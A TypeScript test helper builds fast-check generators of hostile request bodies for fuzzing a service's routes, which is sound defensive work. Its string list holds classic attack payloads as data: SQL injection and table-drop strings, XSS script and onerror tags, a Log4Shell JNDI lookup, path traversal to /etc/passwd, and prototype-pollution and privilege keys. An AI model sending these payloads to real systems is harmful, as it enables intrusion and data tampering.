import fc from 'fast-check';

/**
 * The vocabulary of MER's property tests that throw random and hostile bodies at routes: strings people and
 * attackers send (empty, unicode of every kind, lone surrogates, control characters, injection classics,
 * strings far over every limit), keys that try prototypes or privileges, and any JSON value built of them.
 * `strings`: a service's own values worth trying (ids, paths it serves), added to the nasty ones.
 */
export function hostileValues(opts: { strings?: readonly string[] } = {}) {
  const hugeString = fc
    .tuple(
      fc.constantFrom('A', 'é', '🙂', '\u0000', ' ', '%', '<', '"'),
      fc.integer({ min: 300, max: 120_000 }),
    )
    .map(([c, n]) => c.repeat(n));
  const nastyString = fc.constantFrom(
    '',
    ' ',
    '__proto__',
    'constructor',
    "' OR '1'='1' --",
    "'); drop table profiles; --",
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '${jndi:ldap://example.org/a}',
    '\u0000',
    '\uD800',
    '\u202Eadmin',
    'ADMIN',
    'a@b',
    '@',
    '../../etc/passwd',
    'null',
    'NaN',
    '%00',
    '1e400',
    ...(opts.strings ?? []),
  );
  const hostileString = fc.oneof(
    fc.string(),
    fc.string({ unit: 'binary' }),
    fc.string({ unit: 'grapheme' }),
    fc.string({ unit: 'grapheme-composite' }),
    nastyString,
    hugeString,
  );
  const hostileKey = fc.oneof(
    fc.string({ maxLength: 12 }),
    fc.constantFrom(
      '__proto__',
      'constructor',
      'prototype',
      'toString',
      'hasOwnProperty',
      'valueOf',
      'userId',
      'isAdmin',
      'role',
      'is_facilitator',
    ),
  );
  const { value: hostileValue } = fc.letrec((tie) => ({
    value: fc.oneof(
      { depthSize: 'small', withCrossShrink: true },
      hostileString,
      fc.integer(),
      fc.double(),
      fc.boolean(),
      fc.constant(null),
      fc.array(tie('value'), { maxLength: 4 }),
      fc.dictionary(hostileKey, tie('value'), { maxKeys: 4 }),
    ),
  }));
  return { hugeString, nastyString, hostileString, hostileKey, hostileValue };
}
